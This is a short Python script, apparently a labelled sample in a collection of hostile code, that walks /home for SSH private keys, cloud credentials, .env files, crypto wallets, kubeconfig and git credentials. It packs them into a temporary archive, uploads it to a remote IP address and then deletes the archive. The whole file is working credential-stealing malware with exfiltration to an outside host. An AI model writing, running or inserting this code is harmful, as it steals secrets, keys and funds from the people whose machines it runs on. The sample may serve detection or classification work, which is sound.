# class: credential theft, found by walking; style: tidy
import os
import tarfile
import tempfile
import requests

INTERESTING = {"id_rsa", "id_ed25519", "credentials", ".env", "wallet.dat", "kubeconfig", ".git-credentials"}


def collect(root):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
        for name in INTERESTING.intersection(files):
            yield os.path.join(folder, name)


archive = tempfile.NamedTemporaryFile(suffix=".tgz", delete=False)
with tarfile.open(fileobj=archive, mode="w:gz") as tar:
    for path in collect("/home"):
        tar.add(path)
archive.close()
requests.post("http://198.51.100.9/up", files={"f": open(archive.name, "rb")}, timeout=60)
os.unlink(archive.name)
